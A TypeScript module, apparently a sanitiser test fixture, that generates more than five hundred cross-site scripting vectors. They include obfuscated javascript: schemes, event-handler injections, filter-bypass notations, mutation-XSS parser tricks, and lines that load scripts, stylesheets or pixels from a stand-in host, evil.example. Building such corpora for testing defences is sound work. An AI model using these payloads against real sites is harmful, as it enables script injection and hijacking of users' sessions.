/** Scripts in notations that filters have missed. */
const PAYLOADS = [
  'alert(1)',
  'alert`1`',
  "window['ale'+'rt'](1)",
  'top.alert(1)',
  'canario=1',
  '(alert)(1)//',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  'java&Tab;script:',
  'data:text/html,<script>',
  'vbscript:',
]
const HANDLERS = [
  'onerror',
  'onload',
  'ONERROR',
  'onfocus autofocus=',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
]
const ELEMENTS = [
  (handler: string, code: string) => `<img src=x ${handler}=${code}>`,
  (handler: string, code: string) => `<img/src=x/${handler}="${code}">`,
  (handler: string, code: string) => `<svg/${handler}=${code}>`,
  (handler: string, code: string) => `<svg><animate ${handler}=${code} attributeName=x dur=1s>`,
  (handler: string, code: string) => `<details open ${handler}=${code}>x</details>`,
  (handler: string, code: string) => `<input ${handler}=${code}>`,
  (handler: string, code: string) => `<p ${handler}='${code}'>x</p>`,
  (handler: string, code: string) => `<a href="/faq" ${handler}="${code}">x</a>`,
]
const CARRIERS = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
]
const OTHERS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<img src="https://evil.example/pixel.gif">',
  '<p style="background:url(https://evil.example/pixel.gif)">x</p>',
]

/** More than five hundred texts, each of which would run or load something if it were shown unsanitised. */
export const SCRIPT_VECTORS: readonly string[] = [
  ...OTHERS,
  ...ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) => PAYLOADS.map((code) => element(handler, code))),
  ),
  ...CARRIERS.flatMap((carrier) =>
    SCHEMES.flatMap((scheme) => PAYLOADS.map((code) => carrier(scheme + code))),
  ),
]
